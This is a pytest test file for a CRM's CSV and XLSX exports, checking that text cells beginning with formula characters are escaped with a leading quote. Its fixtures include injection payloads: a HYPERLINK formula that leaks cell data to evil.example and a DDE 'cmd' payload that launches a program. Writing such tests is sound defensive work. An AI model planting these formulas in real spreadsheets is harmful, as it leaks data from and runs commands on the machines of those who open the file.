"""Spreadsheet formula injection: no exported text cell can be read as a formula (OWASP).

A text value starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading ``'``; numbers stay numbers (a negative amount is no formula).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from comptoir.core.exports import safe_cell, safe_row
from comptoir.crm.models import Account
from comptoir.testing import factories

pytestmark = pytest.mark.django_db

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)",
             "\tx", "\rx"]
HARMLESS = ["Plain SARL", "a=b", "O'Neil", ""]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_starting_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, None, 0, -2, Decimal("-12.50"), -0.5, 3.25,
                                   True])
def test_other_values_are_left_alone(value: Any) -> None:
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_a_row_is_made_safe_cell_by_cell() -> None:
    assert safe_row(["=1+1", -3, None, "ok"]) == ["'=1+1", -3, None, "ok"]


@pytest.fixture
def hostile(owner: Any) -> dict[int, str]:
    """Accounts named with every dangerous prefix, stored as a sync could store them (the
    service strips blanks; the database does not care)."""
    names: dict[int, str] = {}
    for n, raw in enumerate([*DANGEROUS, "Plain SARL"]):
        account = factories.account(by=owner, legal_name=f"Placeholder {n}",
                                    billing_city="Paris")
        Account.objects.filter(pk=account.pk).update(legal_name=raw,
                                                     billing_city="=cmd|' /C calc'!A0")
        names[account.pk] = raw
    return names


def _expected(raw: str) -> str:
    return "'" + raw if raw[:1] in ("=", "+", "-", "@", "\t", "\r") else raw


def test_csv_list_export_neutralises_formulas(owner: Any, client_for: Any,
                                              hostile: dict[int, str]) -> None:
    ids = ",".join(str(pk) for pk in hostile)
    response = client_for(owner).get(f"/export/account/?format=csv&ids={ids}"
                                     "&cols=legal_name&cols=billing_city")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=","))
    assert rows[0] == ["Name", "City"]
    names = sorted(r[0] for r in rows[1:])
    assert names == sorted(_expected(raw) for raw in hostile.values())
    assert {r[1] for r in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row


def test_xlsx_list_export_neutralises_formulas_and_keeps_numbers(
        owner: Any, client_for: Any, hostile: dict[int, str]) -> None:
    ids = ",".join(str(pk) for pk in hostile)
    response = client_for(owner).get(f"/export/account/?format=xlsx&ids={ids}"
                                     "&cols=legal_name&cols=billing_city")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    cells = list(sheet.iter_rows(min_row=2))
    # an XML parser may read a carriage return back as a line feed (with lxml installed it
    # keeps it): either way still behind the quote
    assert sorted(r[0].value.replace("\r", "\n") for r in cells) == sorted(
        _expected(raw).replace("\r", "\n") for raw in hostile.values())
    assert {r[1].value for r in cells} == {"'=cmd|' /C calc'!A0"}
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula
            assert str(cell.value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_xlsx_export_keeps_amounts_as_numbers(owner: Any, client_for: Any) -> None:
    account = factories.account(by=owner, legal_name="-Dash Corp")
    deal = factories.opportunity(by=owner, account=account, name="+Plus deal",
                                 amount=Decimal("1234.50"))
    response = client_for(owner).get(f"/export/opportunity/?format=xlsx&ids={deal.pk}"
                                     "&cols=name&cols=amount")
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    assert rows[1] == ("'+Plus deal", 1234.5)
    response = client_for(owner).get(f"/export/opportunity/?format=csv&ids={deal.pk}"
                                     "&cols=name&cols=amount")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == ["'+Plus deal", "1234.50"]
